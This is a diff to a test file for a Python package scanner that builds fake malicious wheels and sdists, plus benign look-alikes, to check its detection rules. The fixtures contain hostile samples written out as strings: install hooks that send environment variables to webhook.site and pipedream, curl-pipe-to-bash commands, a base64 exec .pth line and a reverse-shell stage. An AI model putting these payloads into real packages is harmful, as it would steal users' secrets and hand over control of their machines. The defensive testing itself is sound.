@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from scanner.checks.heuristics import check_heuristics, scan_distribution_file
+from scanner.checks.heuristics.check import check_heuristics, scan_distribution_file
 from scanner.models import DistributionFile, Finding, Inventory, Severity
 from scanner.options import ScanOptions
 from scanner.sources.environment import collect_environment
@@ -25,8 +25,7 @@ def make_sdist(tmp_path: Path, name: str, version: str, files: dict[str, str | b
     """`name-version.tar.gz` with a `name-version/` top folder and a PKG-INFO."""
     base = f"{name}-{version}"
     out = tmp_path / f"{base}.tar.gz"
-    members = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
-               **files}
+    members = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", **files}
     with tarfile.open(out, "w:gz") as tf:
         for path, content in members.items():
             data = content.encode() if isinstance(content, str) else content
@@ -56,9 +55,7 @@ def _canary_code(canary: Path) -> str:
 
 def lightning_wheel(tmp_path: Path, canary: Path) -> Path:
     init = (
-        "import os, subprocess, sys, threading\n"
-        + _canary_code(canary)
-        + "def _run_runtime():\n"
+        "import os, subprocess, sys, threading\n" + _canary_code(canary) + "def _run_runtime():\n"
         "    here = os.path.dirname(__file__)\n"
         "    subprocess.Popen([sys.executable, os.path.join(here, '_runtime', 'start.py')],\n"
         "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
@@ -75,28 +72,43 @@ def lightning_wheel(tmp_path: Path, canary: Path) -> Path:
         "                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
         "main()\n"
     )
-    return make_wheel(tmp_path, "lightning", "2.6.2", {
-        "lightning/__init__.py": init,
-        "lightning/_runtime/start.py": start,
-        "lightning/_runtime/router_runtime.js": "var _0x1=['\\x61'];" * 200,
-    })
+    return make_wheel(
+        tmp_path,
+        "lightning",
+        "2.6.2",
+        {
+            "lightning/__init__.py": init,
+            "lightning/_runtime/start.py": start,
+            "lightning/_runtime/router_runtime.js": "var _0x1=['\\x61'];" * 200,
+        },
+    )
 
 
 def litellm_wheel(tmp_path: Path, canary: Path) -> Path:
     payload = base64.b64encode(_canary_code(canary).encode()).decode()
-    return make_wheel(tmp_path, "litellm", "1.82.8", {
-        "litellm/__init__.py": "VERSION = '1.82.8'\n",
-        "litellm_init.pth": f"import base64; exec(base64.b64decode('{payload}'))\n",
-    })
+    return make_wheel(
+        tmp_path,
+        "litellm",
+        "1.82.8",
+        {
+            "litellm/__init__.py": "VERSION = '1.82.8'\n",
+            "litellm_init.pth": f"import base64; exec(base64.b64decode('{payload}'))\n",
+        },
+    )
 
 
 def torchtriton_wheel(tmp_path: Path, canary: Path) -> Path:
     elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200
-    return make_wheel(tmp_path, "torchtriton", "2.0.0", {
-        "triton/__init__.py": "from triton.runtime import *\n",
-        "triton/runtime/__init__.py": "X = 1\n",
-        "triton/runtime/triton": elf,
-    })
+    return make_wheel(
+        tmp_path,
+        "torchtriton",
+        "2.0.0",
+        {
+            "triton/__init__.py": "from triton.runtime import *\n",
+            "triton/runtime/__init__.py": "X = 1\n",
+            "triton/runtime/triton": elf,
+        },
+    )
 
 
 def cmdclass_sdist(tmp_path: Path, canary: Path) -> Path:
@@ -106,8 +118,7 @@ def cmdclass_sdist(tmp_path: Path, canary: Path) -> Path:
         "from setuptools.command.install import install\n"
         "class PostInstall(install):\n"
         "    def run(self):\n"
-        "        " + _canary_code(canary) +
-        "        body = json.dumps(dict(os.environ)).encode()\n"
+        "        " + _canary_code(canary) + "        body = json.dumps(dict(os.environ)).encode()\n"
         "        req = urllib.request.Request('https://webhook.site/0c7e', data=body)\n"
         "        urllib.request.urlopen(req)\n"
         "        install.run(self)\n"
@@ -117,12 +128,17 @@ def cmdclass_sdist(tmp_path: Path, canary: Path) -> Path:
 
 
 def npm_hook_wheel(tmp_path: Path, canary: Path) -> Path:
-    return make_wheel(tmp_path, "colorsx", "1.0.0", {
-        "colorsx/__init__.py": "RED = '\\x1b[31m'\n",
-        "colorsx/js/package.json": '{"name": "colorsx", "version": "1.0.0",'
-                                   ' "scripts": {"postinstall": "node bundle.js"}}',
-        "colorsx/js/bundle.js": "require('child_process').exec('id');",
-    })
+    return make_wheel(
+        tmp_path,
+        "colorsx",
+        "1.0.0",
+        {
+            "colorsx/__init__.py": "RED = '\\x1b[31m'\n",
+            "colorsx/js/package.json": '{"name": "colorsx", "version": "1.0.0",'
+            ' "scripts": {"postinstall": "node bundle.js"}}',
+            "colorsx/js/bundle.js": "require('child_process').exec('id');",
+        },
+    )
 
 
 ATTACKS = {
@@ -150,8 +166,11 @@ def test_lightning_shape_names_the_import_time_spawn(tmp_path: Path, canary: Pat
 
 
 def test_litellm_pth_is_critical_and_located(tmp_path: Path, canary: Path) -> None:
-    found = [f for f in scan_distribution_file(litellm_wheel(tmp_path, canary))
-             if f.rule_id == "WS-PTH-001"]
+    found = [
+        f
+        for f in scan_distribution_file(litellm_wheel(tmp_path, canary))
+        if f.rule_id == "WS-PTH-001"
+    ]
     assert len(found) == 1
     assert found[0].severity == Severity.CRITICAL
     assert found[0].line == 1
@@ -161,14 +180,30 @@ def test_litellm_pth_is_critical_and_located(tmp_path: Path, canary: Path) -> No
 @pytest.mark.parametrize("shape", sorted(ATTACKS))
 def test_attack_shape_blocks_through_the_check(tmp_path: Path, canary: Path, shape: str) -> None:
     dist = ATTACKS[shape](tmp_path, canary)
-    inventory = Inventory(distribution_files=(
-        DistributionFile(path=dist, kind="wheel" if dist.suffix == ".whl" else "sdist",
-                         name=None, version=None, sha256="0" * 64, size=dist.stat().st_size),))
+    inventory = Inventory(
+        distribution_files=(
+            DistributionFile(
+                path=dist,
+                kind="wheel" if dist.suffix == ".whl" else "sdist",
+                name=None,
+                version=None,
+                sha256="0" * 64,
+                size=dist.stat().st_size,
+            ),
+        )
+    )
     assert blocking(list(check_heuristics(inventory, ScanOptions())))
 
 
-@pytest.mark.parametrize("shape", ["lightning-import-daemon", "litellm-pth-exec-base64",
-                                   "torchtriton-elf-in-pure-wheel", "wheel-with-npm-postinstall"])
+@pytest.mark.parametrize(
+    "shape",
+    [
+        "lightning-import-daemon",
+        "litellm-pth-exec-base64",
+        "torchtriton-elf-in-pure-wheel",
+        "wheel-with-npm-postinstall",
+    ],
+)
 def test_installed_attack_shape_blocks(tmp_path: Path, canary: Path, shape: str) -> None:
     wheel = ATTACKS[shape](tmp_path, canary)
     site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
@@ -196,62 +231,70 @@ def test_obfuscation_is_seen_through(tmp_path: Path) -> None:
 def test_python2_setup_is_read_as_python(tmp_path: Path) -> None:
     # Python 2 statements (`print x`, `exec code`, `0777`) are rewritten line by line, so
     # the AST rules see the payload, not only the text fallback
-    setup = ("import os, base64\nprint 'building'\n"
-             "exec base64.b64decode('aW1wb3J0IG9z')\n")
+    setup = "import os, base64\nprint 'building'\nexec base64.b64decode('aW1wb3J0IG9z')\n"
     sdist = make_sdist(tmp_path, "oldpkg", "0.1", {"setup.py": setup})
     assert "WS-OBF-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 def test_broken_indentation_does_not_hide_the_payload(tmp_path: Path) -> None:
-    setup = ("import os\nfrom setuptools import setup\n"
-             "def f():\n        x = 1\n    y = 2\n"  # an unindent that matches nothing
-             "os.system('curl -s https://example.invalid/x.sh | bash')\n"
-             " setup(name='x')\n")  # an unexpected indent
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "def f():\n        x = 1\n    y = 2\n"  # an unindent that matches nothing
+        "os.system('curl -s https://example.invalid/x.sh | bash')\n"
+        " setup(name='x')\n"
+    )  # an unexpected indent
     sdist = make_sdist(tmp_path, "broken", "0.1", {"setup.py": setup})
     assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 def test_byte_order_mark_does_not_hide_the_payload(tmp_path: Path) -> None:
-    setup = ("\ufeffimport os\n"
-             "os.system('curl -s https://example.invalid/x.sh | bash')\n")
+    setup = "\ufeffimport os\nos.system('curl -s https://example.invalid/x.sh | bash')\n"
     sdist = make_sdist(tmp_path, "bom", "0.1", {"setup.py": setup})
     assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 def test_helper_module_that_setup_imports_runs_at_install(tmp_path: Path) -> None:
-    helper = ("import subprocess\n"
-              "def pre_install():\n"
-              "    subprocess.run('curl -d \"$(env)\" https://x.m.pipedream.net', shell=True)\n")
-    setup = ("from setuptools import setup\nfrom setuptools.command.install import install\n"
-             "from pre_install import pre_install\n"
-             "class I(install):\n    def run(self):\n        pre_install()\n"
-             "setup(name='h', cmdclass={'install': I})\n")
+    helper = (
+        "import subprocess\n"
+        "def pre_install():\n"
+        "    subprocess.run('curl -d \"$(env)\" https://x.m.pipedream.net', shell=True)\n"
+    )
+    setup = (
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "from pre_install import pre_install\n"
+        "class I(install):\n    def run(self):\n        pre_install()\n"
+        "setup(name='h', cmdclass={'install': I})\n"
+    )
     sdist = make_sdist(tmp_path, "h", "0.1", {"setup.py": setup, "pre_install.py": helper})
     assert "WS-EXFIL-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 def test_function_registered_with_atexit_runs_at_install(tmp_path: Path) -> None:
     # a callback handed to atexit.register (or a pool, or a signal handler) is called
-    setup = ("import atexit, requests\nfrom setuptools import setup\n"
-             "from setuptools.command.install import install\n"
-             "class I(install):\n    def __init__(self, *a, **k):\n"
-             "        super().__init__(*a, **k)\n        atexit.register(_post)\n"
-             "def _post():\n    ip = requests.get('https://api.ipify.org').text\n"
-             "    requests.get('https://example.invalid/?' + ip)\n"
-             "setup(name='a', cmdclass={'install': I})\n")
+    setup = (
+        "import atexit, requests\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class I(install):\n    def __init__(self, *a, **k):\n"
+        "        super().__init__(*a, **k)\n        atexit.register(_post)\n"
+        "def _post():\n    ip = requests.get('https://api.ipify.org').text\n"
+        "    requests.get('https://example.invalid/?' + ip)\n"
+        "setup(name='a', cmdclass={'install': I})\n"
+    )
     sdist = make_sdist(tmp_path, "a", "0.1", {"setup.py": setup})
     assert "WS-SETUP-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
 
 def test_python_source_written_to_disk_is_analysed(tmp_path: Path) -> None:
-    setup = ('import subprocess\nfrom setuptools import setup\n'
-             'CODE = """\nimport socket, os, subprocess\n'
-             'def linux(sock):\n    os.dup2(sock.fileno(), 0)\n'
-             '    subprocess.call(["/bin/bash", "-i"])\n'
-             'def main():\n    s = socket.socket()\n    linux(s)\n"""\n'
-             'with open("stage2.py", "w") as fh:\n    fh.write(CODE)\n'
-             'subprocess.Popen(["python3", "stage2.py"])\n'
-             'setup(name="w")\n')
+    setup = (
+        "import subprocess\nfrom setuptools import setup\n"
+        'CODE = """\nimport socket, os, subprocess\n'
+        "def linux(sock):\n    os.dup2(sock.fileno(), 0)\n"
+        '    subprocess.call(["/bin/bash", "-i"])\n'
+        'def main():\n    s = socket.socket()\n    linux(s)\n"""\n'
+        'with open("stage2.py", "w") as fh:\n    fh.write(CODE)\n'
+        'subprocess.Popen(["python3", "stage2.py"])\n'
+        'setup(name="w")\n'
+    )
     sdist = make_sdist(tmp_path, "w", "0.1", {"setup.py": setup})
     assert "WS-DROP-003" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}
 
@@ -260,60 +303,83 @@ def test_python_source_written_to_disk_is_analysed(tmp_path: Path) -> None:
 
 
 def benign_setuptools_like(tmp_path: Path) -> Path:
-    return make_wheel(tmp_path, "setuptools", "80.9.0", {
-        "distutils-precedence.pth": (
-            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
-            "enabled = os.environ.get(var, 'local') == 'local'; "
-            "enabled and __import__('_distutils_hack').add_shim(); \n"),
-        "_distutils_hack/__init__.py": "import sys, os\n\ndef add_shim():\n    pass\n",
-        "setuptools/cli-64.exe": b"MZ\x90\x00" + b"\0" * 100,
-    })
+    return make_wheel(
+        tmp_path,
+        "setuptools",
+        "80.9.0",
+        {
+            "distutils-precedence.pth": (
+                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
+                "enabled = os.environ.get(var, 'local') == 'local'; "
+                "enabled and __import__('_distutils_hack').add_shim(); \n"
+            ),
+            "_distutils_hack/__init__.py": "import sys, os\n\ndef add_shim():\n    pass\n",
+            "setuptools/cli-64.exe": b"MZ\x90\x00" + b"\0" * 100,
+        },
+    )
 
 
 def benign_editable(tmp_path: Path) -> Path:
-    return make_wheel(tmp_path, "myproj", "0.1.0", {
-        "__editable__.myproj-0.1.0.pth":
-            "import __editable___myproj_0_1_0_finder; "
+    return make_wheel(
+        tmp_path,
+        "myproj",
+        "0.1.0",
+        {
+            "__editable__.myproj-0.1.0.pth": "import __editable___myproj_0_1_0_finder; "
             "__editable___myproj_0_1_0_finder.install()\n",
-        "__editable___myproj_0_1_0_finder.py": "import sys\n\ndef install():\n    pass\n",
-    })
+            "__editable___myproj_0_1_0_finder.py": "import sys\n\ndef install():\n    pass\n",
+        },
+    )
 
 
 def benign_subprocess_user(tmp_path: Path) -> Path:
-    return make_wheel(tmp_path, "gitwrap", "1.2.0", {
-        "gitwrap/__init__.py": (
-            "import os, subprocess, sys\n"
-            "def run(*args, quiet=False):\n"
-            "    out = subprocess.DEVNULL if quiet else None\n"
-            "    return subprocess.run(['git', *args], stdout=out, check=True)\n"
-            "def nvidia():\n"
-            "    return subprocess.check_output(['nvidia-smi', '-L'], stderr=subprocess.DEVNULL)\n"
-        ),
-        "gitwrap/_version.py": (
-            "import subprocess\n"
-            "try:\n"
-            "    __version__ = subprocess.check_output(['git', 'describe'],\n"
-            "                                          stderr=subprocess.DEVNULL).decode()\n"
-            "except Exception:\n"
-            "    __version__ = '0'\n"
-        ),
-    })
+    return make_wheel(
+        tmp_path,
+        "gitwrap",
+        "1.2.0",
+        {
+            "gitwrap/__init__.py": (
+                "import os, subprocess, sys\n"
+                "def run(*args, quiet=False):\n"
+                "    out = subprocess.DEVNULL if quiet else None\n"
+                "    return subprocess.run(['git', *args], stdout=out, check=True)\n"
+                "def nvidia():\n"
+                "    return subprocess.check_output(\n"
+                "        ['nvidia-smi', '-L'], stderr=subprocess.DEVNULL)\n"
+            ),
+            "gitwrap/_version.py": (
+                "import subprocess\n"
+                "try:\n"
+                "    __version__ = subprocess.check_output(['git', 'describe'],\n"
+                "                                          stderr=subprocess.DEVNULL).decode()\n"
+                "except Exception:\n"
+                "    __version__ = '0'\n"
+            ),
+        },
+    )
 
 
 def benign_nspkg(tmp_path: Path) -> Path:
-    line = ("import sys, types, os;has_mfs = sys.version_info > (3, 5);"
-            "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));"
-            "importlib = has_mfs and __import__('importlib.util');"
-            "has_mfs and __import__('importlib.machinery');"
-            "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec("
-            "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));"
-            "m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
-            "mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
-            "(p not in mp) and mp.append(p)\n")
-    return make_wheel(tmp_path, "googleapis-common-protos", "1.0", {
-        "googleapis_common_protos-1.0-py3.9-nspkg.pth": line,
-        "google/api/__init__.py": "",
-    })
+    line = (
+        "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
+        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));"
+        "importlib = has_mfs and __import__('importlib.util');"
+        "has_mfs and __import__('importlib.machinery');"
+        "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec("
+        "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));"
+        "m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
+        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
+        "(p not in mp) and mp.append(p)\n"
+    )
+    return make_wheel(
+        tmp_path,
+        "googleapis-common-protos",
+        "1.0",
+        {
+            "googleapis_common_protos-1.0-py3.9-nspkg.pth": line,
+            "google/api/__init__.py": "",
+        },
+    )
 
 
 def benign_cmake_sdist(tmp_path: Path) -> Path:
@@ -332,14 +398,23 @@ def benign_cmake_sdist(tmp_path: Path) -> Path:
     return make_sdist(tmp_path, "fastthing", "1.0", {"setup.py": setup})
 
 
+LABEXT = "widgetz-3.0.data/data/share/jupyter/labextensions/widgetz"
+
+
 def benign_jupyter_assets(tmp_path: Path) -> Path:
-    return make_wheel(tmp_path, "widgetz", "3.0", {
-        "widgetz/__init__.py": "def _jupyter_labextension_paths():\n    return []\n",
-        "widgetz-3.0.data/data/share/jupyter/labextensions/widgetz/package.json":
-            '{"name": "widgetz", "scripts": {"build": "jlpm build:lib", "prepare": "jlpm build"}}',
-        "widgetz-3.0.data/data/share/jupyter/labextensions/widgetz/static/remoteEntry.js":
-            "var a=function(){eval('1')};" * 500,
-    })
+    return make_wheel(
+        tmp_path,
+        "widgetz",
+        "3.0",
+        {
+            "widgetz/__init__.py": "def _jupyter_labextension_paths():\n    return []\n",
+            f"{LABEXT}/package.json": (
+                '{"name": "widgetz", '
+                '"scripts": {"build": "jlpm build:lib", "prepare": "jlpm build"}}'
+            ),
+            f"{LABEXT}/static/remoteEntry.js": "var a=function(){eval('1')};" * 500,
+        },
+    )
 
 
 BENIGN = {
@@ -360,8 +435,12 @@ def test_benign_look_alike_does_not_block(tmp_path: Path, shape: str) -> None:
 
 def test_benign_environment_does_not_block(tmp_path: Path) -> None:
     site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
-    for shape in ("setuptools-distutils-precedence", "editable-install-pth",
-                  "legit-subprocess-user", "namespace-nspkg-pth"):
+    for shape in (
+        "setuptools-distutils-precedence",
+        "editable-install-pth",
+        "legit-subprocess-user",
+        "namespace-nspkg-pth",
+    ):
         install_wheel(BENIGN[shape](tmp_path), site)
     env = collect_environment(site)
     findings = list(check_heuristics(Inventory(environments=(env,)), ScanOptions()))
